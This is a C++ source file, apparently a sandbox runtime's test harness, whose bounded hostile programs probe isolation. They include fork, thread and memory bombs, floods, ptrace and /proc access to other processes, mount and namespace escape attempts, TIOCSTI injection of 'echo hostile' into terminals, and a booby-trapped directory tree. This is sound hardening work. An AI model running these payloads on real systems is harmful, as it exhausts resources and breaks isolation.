// Programs that attack: each tries what it is named after in variations and more than once, and tells what came of it.
// "through WHAT": that worked; "reached WHAT ERRNO": where a filter should have answered the kernel did. Exit code 42
// for either, 0 if nothing worked, 98 if nothing was tried. What floods ends by itself (42) at a bound that no machine
// minds.
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <atomic>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <set>

#include "payload.hpp"

// What is only tried may fail: others look at what came of it.
#pragma GCC diagnostic ignored "-Wunused-result"

namespace payload {
namespace {

constexpr int got_through = 42, not_here = 97, nothing_tried = 98;
constexpr unsigned longest = 100;  // seconds that any of these processes lives
constexpr long megabyte = 1 << 20;

std::string text_of(long number) { return std::to_string(number); }

std::string contents(const std::string& path) {
    const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
    std::string text(8192, 0);
    const auto n = fd < 0 ? -1 : ::read(fd, text.data(), text.size());
    if (fd >= 0) ::close(fd);
    text.resize(n < 0 ? 0 : static_cast<std::size_t>(n));
    return text;
}

std::vector<std::string> names_in(const std::string& directory) {
    std::vector<std::string> names;
    const std::unique_ptr<DIR, int (*)(DIR*)> open(::opendir(directory.c_str()), ::closedir);
    while (const dirent* entry = open ? ::readdir(open.get()) : nullptr)
        if (entry->d_name[0] != '.') names.emplace_back(entry->d_name);
    return names;
}

std::vector<pid_t> visible_processes() {
    std::vector<pid_t> pids;
    for (const auto& name : names_in("/proc"))
        if (const auto pid = to_number(name)) pids.push_back(static_cast<pid_t>(*pid));
    return pids;
}

// Counts what was tried and tells of each thing once.
class Tally {
public:
    /// With `filtered` a filter is to answer, so that any errno but its own means that the call went past it.
    explicit Tally(bool filtered = false) : filtered_(filtered) {}

    long operator()(const std::string& what, long result) {
        const int error = errno;
        tries_++;
        if (result >= 0)
            through_++, say("through " + what);
        else if (filtered_ && error != EPERM && error != ENOSYS)
            through_++, say("reached " + what + " " + error_name(error));
        else
            say("refused " + what + " " + error_name(error));
        return result;
    }

    int verdict() const {
        std::printf("%ld tries, %ld through\n", tries_, through_);
        return tries_ == 0 ? nothing_tried : through_ > 0 ? got_through : 0;
    }

private:
    void say(const std::string& line) {
        constexpr std::size_t most = 300;
        if (told_.size() < most && told_.insert(line).second) std::puts(line.c_str());
    }

    bool filtered_;
    long tries_ = 0, through_ = 0;
    std::set<std::string> told_;
};

long bound_of(const Words& words, std::size_t i, long otherwise) {
    return words.size() > i ? to_number(words[i]).value_or(otherwise) : otherwise;
}

// Where a limit stopped it, which is as it should be; and where its own bound did.
int stopped(long amount, const char* unit) {
    const int error = errno;
    std::printf("refused %s after %ld %s\n", error_name(error).c_str(), amount, unit);
    return 1;
}
int went_through(long amount, const char* unit) {
    std::printf("through %ld %s\n", amount, unit);
    return got_through;
}

std::atomic<long>& shared_counter() {
    void* page = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) std::exit(71);
    return *new (page) std::atomic<long>(0);
}

void ignore_all_signals() {
    for (int signal = 1; signal <= SIGRTMAX; signal++)
        if (signal != SIGALRM) std::signal(signal, SIG_IGN);
}

[[noreturn]] void live_long() {
    const auto end = ::time(nullptr) + longest;
    while (::time(nullptr) < end) ::sleep(1);
    ::_exit(0);
}

// ---- Processes

// Every process of it goes on forking. "stubborn" does not take no for an answer, and hears no signal.
int fork_bomb(const Words& words) {
    const bool stubborn = words.size() > 1 && words[1] == "stubborn";
    const long bound = bound_of(words, 0, 2000);
    auto& made = shared_counter();
    if (stubborn) ignore_all_signals();
    std::signal(SIGCHLD, SIG_IGN);
    const pid_t first = ::getpid();
    const auto end = ::time(nullptr) + longest;
    while (::time(nullptr) < end) {
        if (made.fetch_add(1) >= bound) {
            if (::getpid() == first) return went_through(bound, "processes");
            live_long();
        }
        const pid_t pid = ::fork();
        if (pid == 0 && stubborn) ::setsid();
        if (pid >= 0) continue;
        made--;
        if (!stubborn && ::getpid() == first) return stopped(made.load(), "processes");
        ::usleep(10000);
    }
    return 0;
}

int thread_bomb(const Words& words) {
    pthread_attr_t small;
    ::pthread_attr_init(&small);
    ::pthread_attr_setstacksize(&small, 65536);
    const auto run = [](void*) -> void* { live_long(); };
    const long bound = bound_of(words, 0, 2000);
    for (long made = 0; made < bound; made++) {
        pthread_t thread;
        errno = ::pthread_create(&thread, &small, run, nullptr);
        if (errno != 0) return stopped(made, "threads");
    }
    return went_through(bound, "threads");
}

// A process that is never the same for long: it forks and ends, which lists of processes do not keep up with.
int comets(const Words&) {
    auto& hops = shared_counter();
    for (int i = 0; i < 4; i++) {
        if (::fork() != 0) continue;
        ::setsid();
        ignore_all_signals();
        const auto end = ::time(nullptr) + longest;
        constexpr long most = 500000;
        while (hops.fetch_add(1) < most && ::time(nullptr) < end)
            if (::fork() > 0) ::_exit(0);
        ::_exit(0);
    }
    std::puts("flying");
    std::fflush(stdout);
    live_long();
}

// Behind a double fork, in sessions of their own, deaf, stopped, or with a tracer; some hold the streams.
void scatter() {
    for (int i = 0; i < 12; i++) {
        const pid_t pid = ::fork();
        if (pid != 0) {
            ::waitpid(pid, nullptr, 0);
            continue;
        }
        ::setsid();
        if (::fork() != 0) ::_exit(0);
        ignore_all_signals();
        if (i % 2 == 0)
            for (int fd = 0; fd < 3; fd++) ::close(fd);
        if (i % 3 == 0) ::kill(::getpid(), SIGSTOP);
        if (i % 3 == 1) {
            const pid_t traced = ::fork();
            if (traced == 0) {
                ::ptrace(PTRACE_TRACEME, 0, 0, 0);
                ::raise(SIGSTOP);
            }
        }
        live_long();
    }
}

int orphans(const Words& words) {
    scatter();
    std::puts("scattered");
    std::fflush(stdout);
    if (words.empty()) return 0;
    if (words[0] == "stop") ::kill(::getpid(), SIGSTOP);
    if (words[0] == "deaf") ignore_all_signals();
    live_long();
}

int deaf(const Words&) {
    ignore_all_signals();
    sigset_t all;
    sigfillset(&all);
    ::sigprocmask(SIG_SETMASK, &all, nullptr);
    live_long();
}

// Stopped for ever, as often as somebody continues it.
int stopped_for_ever(const Words&) {
    const auto end = ::time(nullptr) + longest;
    while (::time(nullptr) < end) ::kill(::getpid(), SIGSTOP);
    return 0;
}

// All that it may send a signal to, and all that it may not. Only in a pid namespace of its own: who starts it says
// which one is the host's.
int kill_all(const Words&) {
    char here[64] = "";
    const char* of_host = ::getenv("HOSTS_PID_NAMESPACE");
    if (::readlink("/proc/self/ns/pid", here, sizeof here - 1) < 0 || of_host == nullptr ||
        std::string(here) == of_host) {
        std::puts("these would be the host's processes");
        return not_here;
    }
    for (const int signal : {SIGTERM, SIGHUP, SIGUSR1, SIGSTOP, SIGKILL}) {
        const pid_t victim = ::fork();
        if (victim == 0) live_long();
        const pid_t self = ::getpid(), group = ::getpgrp();
        ::kill(-1, signal);
        for (pid_t pid = 1; pid < (signal == SIGKILL ? 40000 : 300); pid++) {
            if (pid == self || pid == 1) continue;
            ::kill(pid, signal);
            if (pid != group) ::kill(-pid, signal);
            ::syscall(SYS_tgkill, pid, pid, signal);
            const int fd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
            if (fd >= 0) ::syscall(SYS_pidfd_send_signal, fd, signal, nullptr, 0), ::close(fd);
        }
        int status = 0;
        if (::waitpid(victim, &status, WUNTRACED) != victim) return 1;
        if (WIFSTOPPED(status) ? WSTOPSIG(status) != signal : WTERMSIG(status) != signal) return 1;
        std::printf("the victim got SIG%s\n", signal_name(signal).c_str());
        std::fflush(stdout);
        ::kill(victim, SIGKILL);
        ::waitpid(victim, &status, 0);
    }
    return 0;
}

// Every process that it sees but its own child, for which it has to work.
int ptrace_all(const Words&) {
    const pid_t child = ::fork();
    if (child == 0) live_long();
    if (::ptrace(PTRACE_ATTACH, child, 0, 0) < 0) return 71;
    std::puts("works on its own child");
    Tally tally;
    for (int round = 0; round < 3; round++)
        for (const pid_t pid : visible_processes()) {
            if (pid == child || pid == ::getpid()) continue;
            const auto name = text_of(pid);
            for (const auto request : {PTRACE_ATTACH, PTRACE_SEIZE}) {
                if (tally("ptrace " + name, ::ptrace(request, pid, 0, 0)) < 0) continue;
                ::waitpid(pid, nullptr, __WALL | WNOHANG);
                ::ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            char byte = 0;
            const iovec mine{&byte, 1}, theirs{reinterpret_cast<void*>(0x400000), 1};
            tally("read " + name, ::process_vm_readv(pid, &mine, 1, &theirs, 1, 0));
            tally("write " + name, ::process_vm_writev(pid, &mine, 1, &theirs, 1, 0));
            for (const char* file : {"mem", "exe", "environ", "maps", "cwd/.", "root/.", "auxv"})
                tally("open " + name + "/" + file,
                      ::open(("/proc/" + name + "/" + file).c_str(), O_RDONLY | O_NONBLOCK));
            tally("program of " + name, ::open(("/proc/" + name + "/exe").c_str(), O_WRONLY | O_NONBLOCK));
            const int fd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
            for (int theirs_fd = 0; fd >= 0 && theirs_fd < 16; theirs_fd++)
                tally("descriptor of " + name, ::syscall(SYS_pidfd_getfd, fd, theirs_fd, 0));
            if (fd >= 0) ::close(fd);
        }
    ::kill(child, SIGKILL);
    // There may be nobody else: then there was nothing to be had.
    tally("a process that is not there", ::ptrace(PTRACE_ATTACH, 65000, 0, 0));
    return tally.verdict();
}

// ---- Memory, files, output

struct Form {
    const char* name;
    bool (*take)(long number);  // one MiB more
};

int growing_file(const char* path) {
    static const int fd = ::open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    return fd;
}
bool write_megabyte(int fd) {
    static const std::string block(megabyte, 'x');
    for (std::size_t at = 0; at < block.size();) {
        const auto n = ::write(fd, block.data() + at, block.size() - at);
        if (n < 0) return false;
        at += static_cast<std::size_t>(n);
    }
    return true;
}
bool touch(void* at, int byte) { return at != MAP_FAILED && std::memset(at, byte, megabyte) == at; }
void* map_more(int flags) { return ::mmap(nullptr, megabyte, PROT_READ | PROT_WRITE, flags | MAP_ANONYMOUS, -1, 0); }

bool fill_pipes(long) {
    long filled = 0;
    while (filled < megabyte) {
        int ends[2];
        if (::pipe2(ends, O_NONBLOCK | O_CLOEXEC) < 0) return false;
        static const char page[4096] = "x";
        while (::write(ends[1], page, sizeof page) > 0) filled += static_cast<long>(sizeof page);
    }
    return true;
}
// What is sent and not received.
bool fill_unix_sockets(long) {
    for (long filled = 0; filled < megabyte;) {
        int pair[2];
        if (::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) < 0) return false;
        static const char block[16384] = "x";
        while (::send(pair[0], block, sizeof block, 0) > 0) filled += static_cast<long>(sizeof block);
    }
    return true;
}
// Datagrams that find no room are dropped without a word: what counts is what the kernel says that the receiver holds.
bool fill_udp_sockets(long) {
    for (long filled = 0, in_vain = 0; filled < megabyte;) {
        sockaddr_in address{AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {}};
        socklen_t size = sizeof address;
        auto* name = reinterpret_cast<sockaddr*>(&address);
        const int sender = ::socket(AF_INET, SOCK_DGRAM, 0), receiver = ::socket(AF_INET, SOCK_DGRAM, 0);
        if (sender < 0 || receiver < 0 || ::bind(receiver, name, size) < 0) return false;
        if (::getsockname(receiver, name, &size) < 0 || ::connect(sender, name, size) < 0) return false;
        static const char block[16384] = "x";
        for (int i = 0; i < 16; i++) ::send(sender, block, sizeof block, MSG_DONTWAIT);
        ::close(sender);
        unsigned held[16] = {};
        socklen_t held_size = sizeof held;
        if (::getsockopt(receiver, SOL_SOCKET, 55 /* SO_MEMINFO */, held, &held_size) < 0) return false;
        filled += held[0];
        errno = ENOBUFS;
        if (held[0] == 0 && ++in_vain > 50) return false;
    }
    return true;
}

const Form forms[] = {
    {"anonymous", [](long i) { return touch(map_more(MAP_PRIVATE), static_cast<int>(i)); }},
    {"shared", [](long i) { return touch(map_more(MAP_SHARED), static_cast<int>(i)); }},
    {"heap",
     [](long) {
         auto* more = new std::string(megabyte, 'x');
         asm volatile("" : : "r"(more) : "memory");  // or the compiler sees that nobody reads it, and leaves it out
         return true;
     }},
    {"stack",
     [](long) {
         // Threads' stacks: the first one's has a limit of its own.
         pthread_attr_t attributes;
         pthread_t thread;
         return ::pthread_attr_init(&attributes) == 0 &&
                ::pthread_attr_setstack(&attributes, map_more(MAP_PRIVATE), megabyte) == 0 &&
                ::pthread_create(
                    &thread, &attributes,
                    [](void*) -> void* {
                        char* most = static_cast<char*>(__builtin_alloca(megabyte * 3 / 4));
                        std::memset(most, 1, megabyte * 3 / 4);
                        asm volatile("" : : "r"(most) : "memory");
                        live_long();
                    },
                    nullptr) == 0;
     }},
    {"tmpfs", [](long) { return write_megabyte(growing_file("/dev/shm/bomb")); }},
    {"tmp", [](long) { return write_megabyte(growing_file("/tmp/bomb")); }},
    {"dev", [](long) { return write_megabyte(growing_file("/dev/bomb")); }},
    {"memfd",
     [](long) {
         static const int fd = ::memfd_create("bomb", MFD_CLOEXEC);
         return write_megabyte(fd);
     }},
    {"sysv",
     [](long i) {
         const int id = ::shmget(IPC_PRIVATE, megabyte, IPC_CREAT | 0600);
         void* at = id < 0 ? MAP_FAILED : ::shmat(id, nullptr, 0);
         return at != reinterpret_cast<void*>(-1) && touch(at, static_cast<int>(i)) && ::shmdt(at) == 0;
     }},
    {"queues",
     [](long) {
         struct {
             long type;
             char text[8192];
         } message{1, "x"};
         for (long filled = 0; filled < megabyte;) {
             const int id = ::msgget(IPC_PRIVATE, IPC_CREAT | 0600);
             if (id < 0) return false;
             while (::msgsnd(id, &message, sizeof message.text, IPC_NOWAIT) == 0)
                 filled += static_cast<long>(sizeof message.text);
         }
         return true;
     }},
    {"pipes", fill_pipes},
    {"unix-sockets", fill_unix_sockets},
    {"udp", fill_udp_sockets},
};

int memory_bomb(const Words& words) {
    const long bound = bound_of(words, 1, 512);
    rlimit files{};
    ::getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    ::setrlimit(RLIMIT_NOFILE, &files);
    for (const auto& form : forms)
        if (words.at(0) == form.name) {
            for (long taken = 0; taken < bound; taken++)
                if (!form.take(taken)) return stopped(taken, "MiB");
            return went_through(bound, "MiB");
        }
    return 64;
}

// One after the other takes too much and is killed for it; the first one takes nothing and does not mind.
int phoenix(const Words& words) {
    const auto end = ::time(nullptr) + longest;
    for (long i = 0; i < 1000 && ::time(nullptr) < end; i++) {
        const pid_t pid = ::fork();
        if (pid == 0) ::_exit(memory_bomb({"anonymous"}));
        int status = 0;
        if (pid > 0) ::waitpid(pid, &status, 0);
        if (pid > 0 && WIFEXITED(status)) return WEXITSTATUS(status);
        if (i == 0) std::puts("a child was killed"), std::fflush(stdout);
        if (!words.empty() && i == 2) return static_cast<int>(to_number(words[0]).value_or(0));
    }
    return 0;
}

// Files in the page cache: written, mapped, read again. All of it can be taken back, so that nothing has to be killed.
int page_cache(const Words& words) {
    const long bound = bound_of(words, 0, 192);
    const int fd = ::open("/cache", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    for (long i = 0; i < bound; i++)
        if (fd < 0 || !write_megabyte(fd)) return stopped(i, "MiB");
    const auto size = static_cast<std::size_t>(bound * megabyte);
    auto* at = static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
    if (at == MAP_FAILED) return 71;
    for (std::size_t i = 0; i < size; i += 4096) at[i] = 'y';
    ::munmap(at, size);
    long sum = 0;
    std::string block(megabyte, 0);
    for (long i = 0; i < bound; i++) {
        if (::pread(fd, block.data(), block.size(), i * megabyte) != megabyte) return 71;
        sum += block[4096] == 'y';
    }
    std::printf("through %ld MiB, and back\n", sum);
    return sum == bound ? got_through : 71;
}

int output_flood(const Words& words) {
    const auto& how = words.at(0);
    const long bound = bound_of(words, 1, 256);
    ignore_all_signals();
    int fd = how == "stderr" ? 2 : 1;
    if (how == "reopened") fd = ::open("/proc/self/fd/1", O_WRONLY | O_CLOEXEC);
    if (how == "init") fd = ::open("/proc/1/fd/1", O_WRONLY | O_CLOEXEC);
    if (how == "terminal") fd = ::open("/dev/tty", O_WRONLY | O_CLOEXEC);
    if (how == "wide") ::fcntl(fd, F_SETPIPE_SZ, megabyte);
    const int copies = how == "many" ? 4 : 1;
    for (int i = 1; i < copies; i++)
        if (::fork() == 0) {
            ::setsid();
            for (long taken = 0; taken < bound / copies && write_megabyte(i % 2 + 1); taken++) continue;
            ::_exit(0);
        }
    for (long taken = 0; taken < bound / copies; taken++)
        if (fd < 0 || !write_megabyte(fd)) return stopped(taken, "MiB");
    return got_through;
}

int file_flood(const Words& words) {
    const long bound = bound_of(words, 1, 256);
    const int fd = ::open((words.at(0) + "/flood").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    for (long i = 0; i < bound; i++)
        if (fd < 0 || !write_megabyte(fd)) return stopped(i, "MiB");
    return went_through(bound, "MiB");
}

int inode_flood(const Words& words) {
    const long bound = bound_of(words, 1, 100000);
    for (long i = 0; i < bound; i++) {
        const auto path = words.at(0) + "/flood-" + text_of(i);
        const int made = i % 3 == 0   ? ::mkdir(path.c_str(), 0700)
                         : i % 3 == 1 ? ::symlink("nowhere", path.c_str())
                                      : ::mknod(path.c_str(), S_IFREG | 0600, 0);
        if (made < 0) return stopped(i, "files");
    }
    return went_through(bound, "files");
}

// What whoever removes it stumbles over: deeper than any path is long, closed directories, every type of file, names
// that are no text, symbolic links out of it.
int thicket(const Words& words) {
    const long bound = bound_of(words, 0, 600);
    if (::mkdir("thicket", 0700) < 0 || ::chdir("thicket") < 0) return 71;
    ::symlink("/", "root"), ::symlink("..", "up"), ::symlink("loop", "loop"), ::mkfifo("fifo", 0);
    ::close(::open("\xff\n\t\x01 -rf", O_CREAT | O_WRONLY | O_CLOEXEC, 0));
    ::close(::open("closed", O_CREAT | O_WRONLY | O_CLOEXEC, 0)), ::link("closed", "again");
    ::mknod("whiteout", S_IFCHR | 0600, 0);
    ::setxattr("closed", "user.overlay.opaque", "y", 1, 0), ::setxattr("closed", "trusted.overlay.opaque", "y", 1, 0);
    sockaddr_un address{AF_UNIX, "socket"};
    ::bind(::socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&address), sizeof address);
    ::mkdir("dead-end", 0700), ::mkdir("dead-end/below", 0), ::chmod("dead-end", 0);
    const std::string name(200, 'd');
    for (long i = 0; i < bound; i++) {
        if (::mkdir(name.c_str(), 0700) < 0) return stopped(i, "directories");
        if (::chdir(name.c_str()) < 0) return 71;
    }
    std::printf("%ld deep\n", bound);
    return 0;
}

// ---- What a filter is to deny

int mounts(const Words&) {
    Tally tally;
    ::mkdir("/tmp/m", 0755);
    for (int round = 0; round < 2; round++) {
        for (const char* type : {"tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "devtmpfs", "mqueue", "devpts",
                                 "overlay", "debugfs", "bpf", "fuse", "binfmt_misc", "securityfs", "ext4"}) {
            tally(std::string("mount ") + type, ::mount(type, "/tmp/m", type, 0, nullptr));
            tally(std::string("fsopen ") + type, ::syscall(SYS_fsopen, type, 0));
        }
        for (const char* path : {"/", "/proc", "/proc/sys", "/sys", "/dev", "/sys/fs/cgroup", "/proc/1/root",
                                 "/proc/self/root", "/etc/hosts"}) {
            const std::string name = path;
            tally("bind " + name, ::mount(path, "/tmp/m", nullptr, MS_BIND | MS_REC, nullptr));
            tally("remount " + name, ::mount(nullptr, path, nullptr, MS_REMOUNT | MS_BIND, nullptr));
            tally("remount all of " + name, ::mount("none", path, nullptr, MS_REMOUNT, nullptr));
            tally("share " + name, ::mount(nullptr, path, nullptr, MS_SHARED | MS_REC, nullptr));
            tally("move " + name, ::mount(path, "/tmp/m", nullptr, MS_MOVE, nullptr));
            tally("unmount " + name, ::umount2(path, MNT_DETACH));
            tally("expire " + name, ::umount2(path, MNT_EXPIRE));
            tally("open_tree " + name,
                  ::syscall(SYS_open_tree, AT_FDCWD, path, 1 /* OPEN_TREE_CLONE */ | AT_RECURSIVE));
            tally("fspick " + name, ::syscall(SYS_fspick, AT_FDCWD, path, 0));
            const struct {
                unsigned long set, clear, propagation, userns;
            } writable{0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
            tally("mount_setattr " + name, ::syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable));
        }
        tally("unmount a mask", ::umount2("/proc/keys", MNT_DETACH));
        tally("pivot_root", ::syscall(SYS_pivot_root, ".", "."));
        tally("move_mount", ::syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp/m", 0));
        // With a user namespace of its own it would have the right.
        tally("unshare", ::unshare(CLONE_NEWUSER | CLONE_NEWNS));
    }
    return tally.verdict();
}

int namespaces(const Words&) {
    Tally tally;
    constexpr long flags[] = {CLONE_NEWUSER, CLONE_NEWNS,  CLONE_NEWPID,    CLONE_NEWNET,
                              CLONE_NEWUTS,  CLONE_NEWIPC, CLONE_NEWCGROUP, 0x80};
    constexpr long all =
        CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWCGROUP;
    const auto attempt = [&](const std::string& name, auto call) {
        // In a child: one that worked does not change what the next ones find.
        const pid_t pid = ::fork();
        if (pid == 0) ::_exit(call() < 0 ? errno : 0);
        int status = 0;
        ::waitpid(pid, &status, 0);
        errno = WEXITSTATUS(status);
        tally(name, WIFEXITED(status) && errno == 0 ? 0 : -1);
    };
    for (int round = 0; round < 3; round++) {
        for (const long flag : flags) {
            const auto name = text_of(flag);
            attempt("unshare " + name, [&] { return ::syscall(SYS_unshare, flag); });
            attempt("unshare high " + name, [&] { return ::syscall(SYS_unshare, flag | 1L << 40); });
            attempt("unshare files " + name, [&] { return ::syscall(SYS_unshare, flag | CLONE_FILES); });
            attempt("unshare with user " + name, [&] { return ::syscall(SYS_unshare, flag | CLONE_NEWUSER); });
            const auto cloned = [&](long more) {
                const long pid = ::syscall(SYS_clone, flag | more | SIGCHLD, 0, 0, 0, 0);
                if (pid == 0) ::_exit(0);
                if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
                return pid;
            };
            if (flag != 0x80) attempt("clone " + name, [&] { return cloned(0); });
            if (flag != 0x80) attempt("clone high " + name, [&] { return cloned(1L << 40); });
            attempt("clone3 " + name, [&] {
                const unsigned long arguments[11] = {static_cast<unsigned long>(flag), 0, 0, 0, SIGCHLD};
                const long pid = ::syscall(SYS_clone3, arguments, sizeof arguments);
                if (pid == 0) ::_exit(0);
                if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
                return pid;
            });
        }
        attempt("unshare all", [&] { return ::syscall(SYS_unshare, all); });
        for (const char* name : {"cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"})
            for (const char* whose : {"1", "self", "thread-self"})
                attempt(std::string("setns ") + whose + " " + name, [&] {
                    const int fd =
                        ::open((std::string("/proc/") + whose + "/ns/" + name).c_str(), O_RDONLY | O_CLOEXEC);
                    return fd < 0 ? -1 : ::setns(fd, 0);
                });
        const int init = static_cast<int>(::syscall(SYS_pidfd_open, 1, 0));
        attempt("setns of init", [&] { return ::setns(init, CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET); });
    }
    return tally.verdict();
}

int keys(const Words&) {
    Tally tally(true);
    constexpr int process = -2, session = -3, user = -4, user_session = -5;
    for (int round = 0; round < 3; round++) {
        for (const int ring : {process, session, user, user_session}) {
            tally("add_key " + text_of(ring), ::syscall(SYS_add_key, "user", "minirun-hostile", "secret", 6, ring));
            tally("add_key keyring " + text_of(ring),
                  ::syscall(SYS_add_key, "keyring", "minirun-hostile", nullptr, 0, ring));
            tally("request_key " + text_of(ring), ::syscall(SYS_request_key, "user", "minirun-hostile", nullptr, ring));
            // Operations 0 to 32: ids, reading, linking, searching, the keyring of the boot, Diffie-Hellman, watching.
            for (long operation = 0; operation <= 32; operation++)
                // Not revoking and clearing, nor what stays for days: a control does this, too.
                if (operation != 3 && operation != 7 && operation != 22)
                    tally("keyctl " + text_of(operation), ::syscall(SYS_keyctl, operation, ring, 0, 0, 0));
        }
        tally("join a session", ::syscall(SYS_keyctl, 1, "minirun-hostile"));
        tally("search", ::syscall(SYS_keyctl, 10, user, "user", "minirun-hostile", 0));
    }
    return tally.verdict();
}

// Of all families, or of those that are named.
int sockets(const Words& words) {
    Tally tally(true);
    std::set<long> families;
    for (const auto& word : words) families.insert(to_number(word).value_or(0));
    for (long family = 0; words.empty() && family < 64; family++) families.insert(family);
    for (int round = 0; round < 2; round++)
        for (const long family : families) {
            const bool allowed = family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK;
            for (const long type : {1, 2, 3, 4, 5, 6, 10}) {
                const bool raw = type == SOCK_RAW && (family == AF_INET || family == AF_INET6);
                const bool packet = type == SOCK_PACKET && family == AF_INET;
                if (allowed && !raw && !packet) continue;
                const auto name = text_of(family) + " " + text_of(type);
                for (const long protocol : {0L, 1L, 3L, 255L}) {
                    // Without a protocol, or with one above 255, a raw socket is refused for that.
                    if (raw && protocol == 0) continue;
                    const long bits = protocol == 1 ? SOCK_CLOEXEC | SOCK_NONBLOCK : 0,
                               high = protocol == 3 ? 1L << 32 : 0;
                    const int fd = static_cast<int>(
                        tally("socket " + name, ::syscall(SYS_socket, family | high, type | bits, protocol)));
                    if (fd >= 0) ::close(fd);
                }
                int pair[2];
                if (!allowed) tally("socketpair " + name, ::syscall(SYS_socketpair, family, type, 0, pair));
            }
        }
    return tally.verdict();
}

int io_urings(const Words&) {
    Tally tally(true);
    for (int round = 0; round < 3; round++) {
        for (const unsigned flags : {0U, 1U << 1 /* SQPOLL */, 1U << 6 /* R_DISABLED */, 1U << 12 | 1U << 13})
            for (const unsigned entries : {1U, 8U, 4096U}) {
                unsigned parameters[30] = {0, 0, flags};
                tally("io_uring_setup", ::syscall(SYS_io_uring_setup, entries, parameters));
            }
        tally("io_uring_enter", ::syscall(SYS_io_uring_enter, 1000, 1, 0, 0, nullptr, 0));
        tally("io_uring_register", ::syscall(SYS_io_uring_register, 1000, 0, nullptr, 0));
    }
    return tally.verdict();
}

// Types a command at whatever terminal there is.
int type_ahead(const Words&) {
    Tally tally;
    std::set<int> all;
    for (int fd = 0; fd < 64; fd++) all.insert(fd);
    for (const char* path : {"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/ptmx", "/proc/self/fd/0",
                             "/proc/self/fd/1", "/proc/self/fd/2", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"})
        all.insert(::open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK));
    for (const bool own_session : {false, true}) {
        if (own_session && ::fork() > 0) {
            int status = 0;
            ::wait(&status);
            return WEXITSTATUS(status);
        }
        if (own_session) ::setsid();
        for (const int fd : all)
            for (const char letter : std::string("echo hostile\n")) {
                ::ioctl(fd, TIOCSCTTY, own_session ? 1 : 0);
                tally("TIOCSTI", ::ioctl(fd, TIOCSTI, &letter));
                tally("TIOCSTI with more bits", ::syscall(SYS_ioctl, fd, TIOCSTI | 0xffffffffL << 32, &letter));
                const char paste = 3;
                tally("TIOCLINUX", ::ioctl(fd, TIOCLINUX, &paste));
                tally("TIOCCONS", ::ioctl(fd, TIOCCONS, 0));
            }
    }
    std::fflush(stdout);
    ::_exit(tally.verdict());
}

Tally* walk_tally = nullptr;
int open_for_writing(const char* path, const struct stat* status, int type, FTW*) {
    // Root may open what nobody may write; then there is nothing that would take it.
    if (type != FTW_F || !S_ISREG(status->st_mode) || (status->st_mode & 0222) == 0) return 0;
    const int fd = ::open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOFOLLOW);
    if ((*walk_tally)(fd < 0 ? "a file" : path, fd) >= 0) ::close(fd);
    return 0;
}

// Opens all settings of the kernel for writing, and writes nothing.
int settings(const Words& words) {
    Tally tally;
    walk_tally = &tally;
    for (const auto& top : words.empty() ? Words{"/proc/sys", "/sys", "/proc/irq", "/proc/fs", "/proc/bus",
                                                 "/proc/driver", "/proc/scsi", "/proc/self/root/proc/sys"}
                                         : words)
        ::nftw(top.c_str(), open_for_writing, 32, FTW_PHYS);
    for (const auto& name : names_in("/proc"))
        if (!to_number(name) && name != "self" && name != "thread-self") {
            const auto path = "/proc/" + name;
            struct stat status {};
            if (::lstat(path.c_str(), &status) == 0 && S_ISREG(status.st_mode) && (status.st_mode & 0222) != 0)
                tally(path, ::open(path.c_str(), O_WRONLY | O_CLOEXEC | O_NONBLOCK));
        }
    // What would be read for its secrets, and what would change another process.
    for (const char* path :
         {"/proc/kcore", "/proc/kmsg", "/sys/kernel/debug/.", "/sys/kernel/security/.", "/sys/fs/bpf/."})
        if (!contents(path).empty()) tally(path, 0);
    return tally.verdict();
}

// Files of procfs have one mode for all that mount it. This one tells nothing that matters, and the test puts it back.
int proc_modes(const Words&) {
    Tally tally;
    for (int round = 0; round < 3; round++) {
        tally("chmod", ::chmod("/proc/misc", 0400));
        tally("fchmodat", ::fchmodat(::open("/proc", O_PATH | O_CLOEXEC), "misc", 0400, 0));
        tally("fchmod", ::fchmod(::open("/proc/misc", O_RDONLY | O_CLOEXEC), 0400));
